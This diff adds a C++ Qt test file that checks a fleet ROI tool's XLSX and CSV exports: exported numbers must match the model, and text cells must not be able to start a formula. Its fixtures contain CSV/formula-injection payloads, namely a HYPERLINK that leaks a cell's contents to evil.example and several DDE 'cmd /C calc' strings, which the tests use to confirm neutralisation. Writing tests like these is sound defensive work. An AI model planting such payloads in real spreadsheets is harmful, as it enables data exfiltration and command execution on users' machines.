@@ -1,0 +1,333 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// XLSX and CSV exports: the numbers read back from the workbook's XML equal the model's;
+// no text cell can start a formula; the CSV is the C-locale monthly table.
+#include "engine/FleetModel.h"
+#include "engine/ResultsFormat.h"
+#include "export/CsvExport.h"
+#include "export/ExportData.h"
+#include "export/SpreadsheetSafety.h"
+#include "export/XlsxExport.h"
+#include "scenario/ScenarioReader.h"
+
+#include <QLocale>
+#include <QProcess>
+#include <QRegularExpression>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QXmlStreamReader>
+
+#include <clocale>
+#include <cstdio>
+#include <map>
+
+using namespace fleetroi;
+using namespace fleetroi::exporting;
+
+namespace {
+
+Scenario example(const char *name)
+{
+    const auto r = readScenarioFile(std::string(FLEETROI_TEST_DATA_DIR "/examples/") + name +
+                                    ".fleetroi.json");
+    if (!r.ok())
+        qFatal("cannot read example %s", name);
+    return *r.scenario;
+}
+
+QByteArray unzipMember(const QString &zip, const QString &member)
+{
+    QProcess p;
+    p.start(QStringLiteral("unzip"), {QStringLiteral("-p"), zip, member});
+    if (!p.waitForFinished(30000) || p.exitCode() != 0)
+        return {};
+    return p.readAllStandardOutput();
+}
+
+// A cell as stored: its type attribute ("s" shared string, "" number, "str"/"inlineStr"),
+// its <v> text, and whether it held a formula.
+struct Cell
+{
+    QString type;
+    QString value;
+    bool formula = false;
+};
+
+// Cells of a worksheet XML by reference ("B7").
+std::map<QString, Cell> readCells(const QByteArray &xml)
+{
+    std::map<QString, Cell> cells;
+    QXmlStreamReader r(xml);
+    QString ref;
+    while (!r.atEnd()) {
+        r.readNext();
+        if (r.isStartElement() && r.name() == QLatin1String("c")) {
+            ref = r.attributes().value(QLatin1String("r")).toString();
+            cells[ref].type = r.attributes().value(QLatin1String("t")).toString();
+        } else if (r.isStartElement() && r.name() == QLatin1String("v")) {
+            cells[ref].value = r.readElementText();
+        } else if (r.isStartElement() && r.name() == QLatin1String("f")) {
+            cells[ref].formula = true;
+        }
+    }
+    return cells;
+}
+
+QStringList sharedStrings(const QByteArray &xml)
+{
+    QStringList strings;
+    QXmlStreamReader r(xml);
+    QString current;
+    bool inSi = false;
+    while (!r.atEnd()) {
+        r.readNext();
+        if (r.isStartElement() && r.name() == QLatin1String("si")) {
+            inSi = true;
+            current.clear();
+        } else if (r.isEndElement() && r.name() == QLatin1String("si")) {
+            inSi = false;
+            strings << current;
+        } else if (inSi && r.isStartElement() && r.name() == QLatin1String("t")) {
+            current += r.readElementText();
+        }
+    }
+    return strings;
+}
+
+QString columnName(int c)
+{
+    QString s;
+    ++c;
+    while (c > 0) {
+        s.prepend(QChar(u'A' + (c - 1) % 26));
+        c = (c - 1) / 26;
+    }
+    return s;
+}
+
+// libxlsxwriter stores numbers with 16 significant digits ("%.16G"): the same double text at
+// that precision is "equal" (a spreadsheet shows at most 15).
+QByteArray digits16(double v)
+{
+    char buf[64];
+    std::snprintf(buf, sizeof buf, "%.16G", v == 0.0 ? 0.0 : v);
+    return buf;
+}
+
+Scenario hostile()
+{
+    Scenario s = example("neocloud-h100-lessor");
+    s.name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+    s.description = "+cmd|' /C calc'!A0";
+    s.skus[0].name = "@SUM(1+1)*cmd|' /C calc'!A0";
+    s.purchases[0].label = "-2+3+cmd|' /C calc'!A0";
+    s.provenance.push_back({"skus[0].gpu_price", "\t=1+1", "2026-01-01", "\r=2+2"});
+    s.provenance.push_back({"-not-a-path", "=3", "", "+4"});
+    return s;
+}
+
+} // namespace
+
+class TestExport : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void neutralise_data()
+    {
+        QTest::addColumn<QString>("in");
+        QTest::addColumn<QString>("out");
+        QTest::newRow("equals") << "=1+1"
+                                << "'=1+1";
+        QTest::newRow("plus") << "+1"
+                              << "'+1";
+        QTest::newRow("minus") << "-2+3"
+                               << "'-2+3";
+        QTest::newRow("at") << "@SUM(A1)"
+                            << "'@SUM(A1)";
+        QTest::newRow("tab") << "\t=1"
+                             << "'\t=1";
+        QTest::newRow("cr") << "\r=1"
+                            << "'\r=1";
+        QTest::newRow("fullwidth equals") << QString::fromUtf8("\xEF\xBC\x9D"
+                                                               "1")
+                                          << QString::fromUtf8("'\xEF\xBC\x9D"
+                                                               "1");
+        QTest::newRow("plain") << "H100 cluster A"
+                               << "H100 cluster A";
+        QTest::newRow("empty") << ""
+                               << "";
+        QTest::newRow("inner equals") << "a=b"
+                                      << "a=b";
+    }
+    void neutralise()
+    {
+        QFETCH(QString, in);
+        QFETCH(QString, out);
+        QCOMPARE(neutraliseCell(in), out);
+    }
+
+    void csvFieldQuotes()
+    {
+        QCOMPARE(csvField(QStringLiteral("a,b")), QStringLiteral("\"a,b\""));
+        QCOMPARE(csvField(QStringLiteral("say \"hi\"")), QStringLiteral("\"say \"\"hi\"\"\""));
+        QCOMPARE(csvField(QStringLiteral("=1,2")), QStringLiteral("\"'=1,2\""));
+        QCOMPARE(csvField(QStringLiteral("\r=1")), QStringLiteral("\"'\r=1\""));
+        QCOMPARE(csvLine({QStringLiteral("=A1"), QStringLiteral("ok")}), QByteArray("'=A1,ok\n"));
+    }
+
+    void csvIsComputeCsvInTheCLocale()
+    {
+        // A German user's locale must not change the file.
+        QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
+        std::setlocale(LC_ALL, "de_DE.UTF-8");
+        const Scenario s = example("hyperscaler-surplus-leasing");
+        const ModelResults r = computeModel(s);
+        const QByteArray csv = monthlyCsv(r.monthly);
+        std::setlocale(LC_ALL, "C");
+        QLocale::setDefault(QLocale::c());
+        QCOMPARE(csv, QByteArray::fromStdString(monthlyToCsv(r.monthly)));
+        QVERIFY(csv.startsWith("month,capacity_hours,internal_demand_hours,"));
+        QCOMPARE(csv.count('\n'), s.horizonMonths + 1);
+        QTemporaryDir dir;
+        const QString path = dir.filePath(QStringLiteral("m.csv"));
+        QVERIFY(writeMonthlyCsv(path, r.monthly).ok());
+        QFile f(path);
+        QVERIFY(f.open(QIODevice::ReadOnly));
+        QCOMPARE(f.readAll(), csv);
+        // Every line after the header: a month and numbers only; no cell starts a formula
+        // except negative numbers, which are numbers.
+        const QList<QByteArray> lines = csv.split('\n');
+        for (qsizetype i = 1; i < lines.size(); ++i)
+            for (const QByteArray &cell : lines[i].split(','))
+                if (cell.startsWith('-'))
+                    QVERIFY2(QRegularExpression(QStringLiteral("^-[0-9.e+-]+$"))
+                                 .match(QString::fromLatin1(cell))
+                                 .hasMatch(),
+                             cell.constData());
+    }
+
+    void csvWriteFailureLeavesNothing()
+    {
+        const ModelResults r = computeModel(example("neocloud-h100-lessor"));
+        const StorageStatus st =
+            writeMonthlyCsv(QStringLiteral("/nonexistent-dir/x.csv"), r.monthly);
+        QVERIFY(!st.ok());
+        QVERIFY(!st.message.isEmpty());
+    }
+
+    void xlsxNumbersEqualCompute_data()
+    {
+        QTest::addColumn<QString>("name");
+        QTest::newRow("hyperscaler") << "hyperscaler-surplus-leasing";
+        QTest::newRow("neocloud") << "neocloud-h100-lessor";
+    }
+    void xlsxNumbersEqualCompute()
+    {
+        QFETCH(QString, name);
+        const Scenario s = example(name.toUtf8().constData());
+        const ExportData d = computeExportData(s);
+        QTemporaryDir dir;
+        const QString path = dir.filePath(QStringLiteral("out.xlsx"));
+        const StorageStatus st = writeXlsx(path, d);
+        QVERIFY2(st.ok(), qPrintable(st.message));
+
+        // A valid workbook: the five sheets in order.
+        const QByteArray workbook = unzipMember(path, QStringLiteral("xl/workbook.xml"));
+        QVERIFY2(!workbook.isEmpty(), "unzip failed (is the unzip package installed?)");
+        QRegularExpression sheetRe(QStringLiteral("<sheet name=\"([^\"]+)\""));
+        QStringList sheets;
+        for (auto it = sheetRe.globalMatch(QString::fromUtf8(workbook)); it.hasNext();)
+            sheets << it.next().captured(1);
+        QCOMPARE(sheets, (QStringList{QStringLiteral("Summary"), QStringLiteral("Monthly"),
+                                      QStringLiteral("Tranches"), QStringLiteral("Sensitivity"),
+                                      QStringLiteral("Assumptions")}));
+
+        // Monthly: row 1 is the header, then month t in row t + 2; series in namedSeries order
+        // from column B. Numbers are numbers (no type attribute).
+        const QByteArray monthlyXml = unzipMember(path, QStringLiteral("xl/worksheets/sheet2.xml"));
+        QVERIFY(monthlyXml.contains("state=\"frozen\""));
+        const auto cells = readCells(monthlyXml);
+        const auto series = d.results.monthly.namedSeries();
+        int compared = 0;
+        for (int t = 0; t < d.results.monthly.size(); ++t) {
+            for (std::size_t c = 0; c < series.size(); ++c) {
+                const QString ref = columnName(int(c) + 1) + QString::number(t + 2);
+                const double expected = (*series[c].second)[std::size_t(t)];
+                const auto it = cells.find(ref);
+                QVERIFY2(it != cells.end(), qPrintable(ref));
+                QVERIFY2(it->second.type.isEmpty(), qPrintable(ref));
+                const double read = it->second.value.toDouble();
+                QVERIFY2(digits16(read) == digits16(expected),
+                         qPrintable(ref + QLatin1Char(' ') + it->second.value +
+                                    QLatin1String(" vs ") +
+                                    QString::fromStdString(formatJsonNumber(expected))));
+                ++compared;
+            }
+        }
+        QCOMPARE(compared, d.results.monthly.size() * int(series.size()));
+
+        // Summary: the NPV in the row labelled "NPV".
+        const QStringList strings =
+            sharedStrings(unzipMember(path, QStringLiteral("xl/sharedStrings.xml")));
+        const auto summary =
+            readCells(unzipMember(path, QStringLiteral("xl/worksheets/sheet1.xml")));
+        bool foundNpv = false;
+        for (const auto &[ref, cell] : summary) {
+            if (cell.type == QLatin1String("s") && ref.startsWith(QLatin1Char('A')) &&
+                strings.value(cell.value.toInt()) == QLatin1String("NPV")) {
+                const QString valueRef = QLatin1Char('B') + ref.mid(1);
+                QCOMPARE(digits16(summary.at(valueRef).value.toDouble()),
+                         digits16(d.results.kpis.npv));
+                foundNpv = true;
+            }
+        }
+        QVERIFY(foundNpv);
+
+        // Sensitivity: npv_low/npv_high in C/D from row 2, in the tornado's order.
+        const auto sens = readCells(unzipMember(path, QStringLiteral("xl/worksheets/sheet4.xml")));
+        for (std::size_t i = 0; i < d.sensitivity.size(); ++i) {
+            const QString row = QString::number(int(i) + 2);
+            QCOMPARE(digits16(sens.at(QLatin1Char('C') + row).value.toDouble()),
+                     digits16(d.sensitivity[i].npvLow));
+            QCOMPARE(digits16(sens.at(QLatin1Char('D') + row).value.toDouble()),
+                     digits16(d.sensitivity[i].npvHigh));
+        }
+    }
+
+    void xlsxNoCellStartsAFormula()
+    {
+        const ExportData d = computeExportData(hostile());
+        QTemporaryDir dir;
+        const QString path = dir.filePath(QStringLiteral("hostile.xlsx"));
+        QVERIFY(writeXlsx(path, d).ok());
+        const QStringList strings =
+            sharedStrings(unzipMember(path, QStringLiteral("xl/sharedStrings.xml")));
+        QVERIFY(!strings.isEmpty());
+        int neutralised = 0;
+        for (const QString &s : strings) {
+            QVERIFY2(!startsFormula(s), qPrintable(s));
+            if (s.startsWith(QLatin1String("'=")) || s.startsWith(QLatin1String("'+")) ||
+                s.startsWith(QLatin1String("'-")) || s.startsWith(QLatin1String("'@")) ||
+                s.startsWith(QLatin1String("'\t")) || s.startsWith(QLatin1String("'\r")))
+                ++neutralised;
+        }
+        QVERIFY2(neutralised >= 7, qPrintable(QString::number(neutralised)));
+        // No formula anywhere, and no inline strings that escaped the check above.
+        for (int i = 1; i <= 5; ++i) {
+            const QByteArray xml =
+                unzipMember(path, QStringLiteral("xl/worksheets/sheet%1.xml").arg(i));
+            QVERIFY(!xml.isEmpty());
+            QVERIFY(!xml.contains("<f>") && !xml.contains("<f "));
+            QVERIFY(!xml.contains("inlineStr"));
+        }
+    }
+
+    void xlsxWriteFailureLeavesNothing()
+    {
+        const ExportData d = computeExportData(example("neocloud-h100-lessor"));
+        QVERIFY(!writeXlsx(QStringLiteral("/nonexistent-dir/x.xlsx"), d).ok());
+    }
+};
+
+QTEST_GUILESS_MAIN(TestExport)
+#include "test_export.moc"
